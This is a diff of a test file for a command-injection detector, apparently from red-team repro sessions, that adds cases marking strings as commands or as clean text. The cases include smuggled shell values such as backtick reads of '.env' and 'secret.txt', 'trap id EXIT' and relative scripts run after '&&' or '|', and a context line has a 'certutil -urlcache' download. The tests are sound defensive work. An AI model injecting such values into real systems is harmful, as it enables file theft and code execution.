@@ -1750,12 +1750,19 @@ describe('cmdi session 21 (rtc23): $(<file) substitutes the file it reads (bash)
   // a one-letter file holds nothing a probe is after. Any other spelling or anything more still reads a file.
   it.each(["* The automatic variables `$(@D)', `$(<D)', `$(?D)'", '$(<D)', '$(<F)', 'the folder $(<D) of it', 'x;$(<D)'])('%s stays clean', expectNoCmdi);
   it.each(['$(<d)', '$(<x)', '$(<Db)', '$(<D/x)', '$(<D.txt)', '$(<D2)', '$(<D )', '$( <D)', '$(< D)', '$(<%44)', 'of $(<file).'])('%s is a command', expectCmdi);
+  // session 21 (rtd24 repro 13): the backtick form reads the file too; a tagged template's markup (a name then '>', ' ', '-') stays
+  // (and so does an unclosed one, which sh rejects: a generated password)
+  it.each(['x`<secret.txt`', 'x`< secret.txt`', 'x`<.env`', 'x`<~/x`', 'x`<secret`', 'x`<uploads/a`', "x`<'a.txt'`", 'x`<$HOME/x`'])('%s is a command', expectCmdi);
+  it.each(['html`<div>`', 'html`</div>`', 'html`<my-el></my-el>`', 'a`<b>` c', 'html`<p class=x>`', 'aF0J`<G.mvl8NI/e'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): trap runs its first operand, quoted or not, at the signals named after it', () => {
   it.each(['x;trap id EXIT', 'x;trap id 0', 'x; trap id INT', 'x|trap whoami SIGTERM', 'x\ntrap id ERR', 'trap id EXIT'])('%s is a command', expectCmdi);
   // (a word that names no signal after it, or trap out of command position, is prose)
   it.each(['x;trap id cards', 'Tourist trap; Avoid it', 'a trap date 0', 'Mouse trap, cat 5', 'x;trap door 0'])('%s stays clean', expectNoCmdi);
+  // session 21 (rtd24 repro 13): "--" ends trap's options and leaves the same operands
+  it.each(['x;trap -- id EXIT', 'x;trap -- "id" EXIT', 'x|trap -- whoami 0'])('%s is a command', expectCmdi);
+  it.each(['x;trap -- id cards', 'Tourist trap -- Avoid it', 'x;trap -p', 'x;trap - EXIT'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builtin, ./ .\\, cmd.exe after & | newline)', () => {
@@ -1764,6 +1771,15 @@ describe('cmdi session 21 (rtc23): a file run by a relative path (the dot builti
   // a domain after '&' (.com is a program's extension too), a document, a folder, prose after ". " on a new line
   it.each(['Barnes&Noble.com', 'AT&T.com', 'H&M.com/shop', 'x&Readme.txt', 'R&D\\Docs', 'Tom & Jerry', 'x|foo.bar', 'Hello\n. Next item',
     'Q&A. Then', 'x&. ./y', 'Wait... then; done', 'End.;. '])('%s stays clean', expectNoCmdi);
+});
+
+// session 21 (rtd24 repro 13): the dot builtin after '&&' (sh's list, spaced or glued), with a quoted operand (the shell
+// drops the quotes), and after a newline with a script's extension (". name" alone there stays a line of text)
+describe('cmdi session 21 (rtd24): the dot builtin after &&, quoted, or on a new line with a script name', () => {
+  it.each(['x&&. cmd.sh', 'x && . cmd.sh', "x;. 'cmd.sh'", 'x;. "cmd.sh"', 'x|. "uploads/a.png"', 'x\n. run.sh', 'x\n. a.ps1',
+    "x\n. 'run.sh'", 'x\n. id'])('%s is a command', expectCmdi);
+  it.each(['Q&A. Then', 'a& . b', 'Tom & Jerry. Then', 'Hello\n. Next item', 'Hello\n. Next.item', 'Notes\n. see a.txt',
+    'x&. ./y'])('%s stays clean', expectNoCmdi);
 });
 
 // Session 24 (red team rtd24 repro 01): a program's bare name opening a line after a newline runs nowhere: cmd.exe ends its
@@ -1775,6 +1791,13 @@ describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
     'x\nself.cmd = cmd', 'x\r\na.exe'])('%s stays clean', expectNoCmdi);
   it.each(['x\nuploads\\a.exe', 'x\na\\b.exe', 'x\nsub.dir\\a.exe', 'x\ncalc.exe', 'x\ncertutil.exe -urlcache -f http://e/x x.exe',
     'x\nc:\\temp\\a.exe', 'x\n.\\a.bat', 'x|a.exe', 'x|setup.exe', 'x&x.bat'])('%s is a command', expectCmdi);
+});
+
+// session 21 (rtd24): a relative path with a '/' after '|' or a newline runs from the working folder in sh (a script's or a
+// program's extension on its last segment); a document or a path without an extension is no program
+describe('cmdi session 21 (rtd24): a relative path with a slash after | or a newline', () => {
+  it.each(['x|uploads/run.sh', 'x\nuploads/a.sh', 'x|uploads/a.exe', 'x|tools/b/c.bat -q'])('%s is a command', expectCmdi);
+  it.each(['x|docs/readme.md', 'x|a/b', 'Hi\nsee docs/setup.sh', 'and/or | yes/no', 'x|docs/a.txt'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
